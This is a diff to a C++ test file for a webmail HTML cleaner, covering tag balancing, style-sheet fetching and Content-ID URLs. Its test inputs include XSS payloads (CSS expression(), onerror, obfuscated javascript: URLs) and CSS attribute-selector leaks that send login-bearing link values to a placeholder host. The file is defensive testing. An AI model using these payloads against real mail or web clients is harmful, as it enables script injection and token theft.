@@ -50,7 +50,7 @@ TEST_F(HtmlCleanTest, OrdinaryMailKeepsItsLook) {
         {"<p style=\"font-family:&quot;A&quot;\">x", "<p style=\"font-family:&quot;A&quot;\">x"},
         {"a < b and c > d <3", "a &lt; b and c > d &lt;3"},
         {"<form action=\"http://x/\"><input name=p><textarea>t</textarea></form>after", "tafter"},
-        {"<p>x<p>y<li>z", "<p>x<p>y<li>z"},
+        {"<p>x<p>y<li>z", "<p>x<p>y<li>z</li>"},
         {"<o:p>office</o:p><x y=1 z>", "<o:p>office</o:p><x></x>"},
         // ISO-2022-JP: the pair "$\"" is a kanji, not a quote.
         {"<img alt=\"\x1b$B$\"\x1b(B\" src=http://x/>",
@@ -127,6 +127,7 @@ TEST_F(HtmlCleanTest, HostileMarkupNeverSurvives) {
         "<div style=\"width:expression(alert(1))\">",
         "<div style=\"background:url(&#106;avascript:alert(1))\">",
         "<div style=\"x:expr/**/ession(alert(1))\">",
+        "<div style=\"x:expr/\x03**/ession(alert(1))\">",
         "<div style=\"background-image: url(&#1;javascript:alert(1))\">",
         "<p style=\"color:red\" style=\"x:expression(alert(1))\">x</p>",
         "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
@@ -152,6 +153,125 @@ TEST_F(HtmlCleanTest, StoppedPartShowsTheRestAsSource) {
     // The written rule: these words anywhere inside a tag end the markup.
     EXPECT_EQ(Clean("<i>a</i><a href=\"http://x/scripts/\">b</a>"),
               "<i>a</i>&lt;a href=\"http://x/scripts/\"&gt;b&lt;/a&gt;");
+}
+
+// What the mail leaves open must be closed in the browser too: an element
+// the browser still holds (or reopens, as it does formatting elements) would
+// take the gateway's reply form and links after the part into the mail.
+TEST_F(HtmlCleanTest, NothingTheMailOpensOutlivesIt) {
+    const struct {
+        std::string html, page;
+    } cases[] = {
+        // An end tag that closes a formatting element inside it: the
+        // browser keeps the inner one for reopening.
+        {"<b><a href=\"http://x/\">x</b>after",
+         "<b><a href=\"http://x/\" rel=\"noopener noreferrer\">x</a></b>after"},
+        // A table cell is a wall the outer end tag does not pass.
+        {"<font><a href=\"http://x/\"><table><tr><td>x</font>y",
+         "<font><a href=\"http://x/\" rel=\"noopener "
+         "noreferrer\"><table><tr><td>x</td></tr></table>"
+         "</a></font>y"},
+        // Any heading's end tag closes the innermost heading.
+        {"<h1><a><h2></a>z", "<h1><a><h2></h2></a>z</h1>"},
+        {"<li><a><table><li>t", "<li><a><table><li>t</li></table></a></li>"},
+        // A paragraph left open would move out of the <i> at its end tag
+        // and keep </x> from closing x: it is closed unless outermost.
+        {"<x><i><p>a</i>b", "<x><i><p>a</p></i>b</x>"},
+        {"<p>a<b>b", "<p>a<b>b</b>"},
+        // To a browser <spacer> holds what follows: it is no void element.
+        {"<spacer>x", "<spacer>x</spacer>"},
+        // A link inside a link ends the outer one with what it holds, but
+        // not across a table cell.
+        {"<a><ruby><a><p>x<rt>y", "<a><ruby></ruby></a><a><p>x<rt>y</rt></p></a>"},
+        {"<a><table><tr><td><a>x", "<a><table><tr><td><a>x</a></td></tr></table></a>"},
+        // Ruby text ends ruby text only inside a ruby.
+        {"<rt>a<rt>b", "<rt>a<rt>b</rt></rt>"},
+        {"<ruby>a<rt>b<p>c<rt>d</ruby>", "<ruby>a<rt>b<p>c<rt>d</rt></ruby>"},
+        // Elements the browser closes by themselves do not pile up.
+        {"<ul><li>a<li>b</ul>", "<ul><li>a<li>b</li></ul>"},
+        {"<table><tr><td>a<td>b<tr><td>c</table>",
+         "<table><tr><td>a<td>b<tr><td>c</td></tr></table>"},
+    };
+    for (const auto& t : cases) EXPECT_EQ(Clean(t.html), t.page) << t.html;
+
+    // Deeper than the cleaner follows, start tags go; the text stays.
+    std::string deep;
+    for (int i = 0; i < 300; i++) deep += "<div>";
+    const std::string page = Clean(deep + "<a href=\"http://x/\">wrap");
+    auto count = [&](std::string_view what) {
+        size_t n = 0;
+        for (size_t at = page.find(what); at != std::string::npos; at = page.find(what, at + 1))
+            n++;
+        return n;
+    };
+    EXPECT_EQ(count("<div>"), count("</div>"));
+    EXPECT_EQ(count("<a "), count("</a>"));
+    EXPECT_NE(page.find("wrap"), std::string::npos);
+    // Paragraphs left open one after the other are not nesting.
+    std::string paragraphs;
+    for (int i = 0; i < 300; i++) paragraphs += "<p>x";
+    EXPECT_EQ(Clean(paragraphs + "<b>end"), paragraphs + "<b>end</b>");
+}
+
+// Pictures may come from the web; nothing else a style sheet loads may, and
+// a sheet that tests attribute values (the gateway's links carry the login)
+// may load nothing from the web at all.
+TEST_F(HtmlCleanTest, StyleSheetsFetchOnlyPictures) {
+    const std::string shownAsSource[] = {
+        "<style>@font-face{font-family:f;src:url(http://x/f.woff)}</style>",
+        "<style>@FONT-FACE{src:url('https://x/f.ttf')}</style>",
+        "<style>a[href*=\"check=\"]{background:url(http://x/leak.png)}</style>",
+        "<style>form[action^=\"/mail/\"] { list-style-image: url( \"https://x/l\" ) }</style>",
+        "<style>body:has(a[href$=\"7\"]) p{background:url(http://x/7)}</style>",
+        // A fragment names an element of an SVG document: a document load.
+        "<style>p{clip-path:url(http://x/c.svg#c)}</style>",
+    };
+    for (const std::string& html : shownAsSource)
+        EXPECT_EQ(Clean(html).rfind("&lt;style&gt;", 0), 0u) << html;
+    EXPECT_EQ(Clean("<p style=\"marker-start:url('https://x/m.svg#m')\">x"),
+              "&lt;p style=\"marker-start:url('https://x/m.svg#m')\"&gt;x");
+    const struct {
+        std::string html, page;
+    } kept[] = {
+        {"<style>a[x-apple-data-detectors]{color:inherit}</style>",
+         "<style>a[x-apple-data-detectors]{color:inherit}</style>"},
+        {"<style>[lang]{background:url(cid:bg@x)}</style>",
+         "<style>[lang]{background:url(\"/mail/~taro/bg@x\")}</style>"},
+        {"<style>td{background:url(http://x/bg.png)}</style>",
+         "<style>td{background:url(http://x/bg.png)}</style>"},
+        {"<p style=\"background:url(http://x/bg.png)\">x",
+         "<p style=\"background:url(http://x/bg.png)\">x"},
+    };
+    for (const auto& t : kept) EXPECT_EQ(Clean(t.html), t.page) << t.html;
+}
+
+// A Content-ID is percent-decoded into the path it becomes; what it decodes
+// to must stay inside its url( ) in whatever form the reference was written.
+TEST_F(HtmlCleanTest, CidInStyleStaysOneUrl) {
+    const struct {
+        std::string html, page;
+    } cases[] = {
+        {"<p style=\"background:url(cid:x%29%3Bcolor%3Ared)\">",
+         "<p style=\"background:url(&quot;/mail/~taro/x%29;color:red&quot;)\">"},
+        {"<style>p{background:url('cid:a url(cid:b')}</style>",
+         "<style>p{background:url('/mail/~taro/a%20url%28cid:b')}</style>"},
+        {"<style>p{background:url(cid:*x)}</style>",
+         "<style>p{background:url(\"/mail/~taro/%2Ax\")}</style>"},
+    };
+    for (const auto& t : cases) {
+        EXPECT_EQ(Clean(t.html), t.page) << t.html;
+        EXPECT_EQ(markup_audit::Audit(out), "") << t.html;
+    }
+    // A decoded Content-ID that spells a dangerous word; unquoted, a "(" or
+    // a quote makes the browser drop the url( ) up to the next ")", past
+    // where a check would have ended it.
+    for (const std::string html :
+         {"<p style=\"background:url(cid:x%29%3Bwidth%3A%65xpression%28alert%281%29%29)\">",
+          "<style>p{background:url(cid:a:url(cid:b)}</style>",
+          "<p style=\"background:url(http://x/a'b)\">",
+          "<style>p{background:url(\x02http://x/a)}</style>",
+          "<style>p{background:url('http://x/a\n')}</style>"})
+        EXPECT_EQ(Clean(html).rfind("&lt;", 0), 0u) << html;
 }
 
 TEST_F(HtmlCleanTest, CidReferencesAreRemembered) {
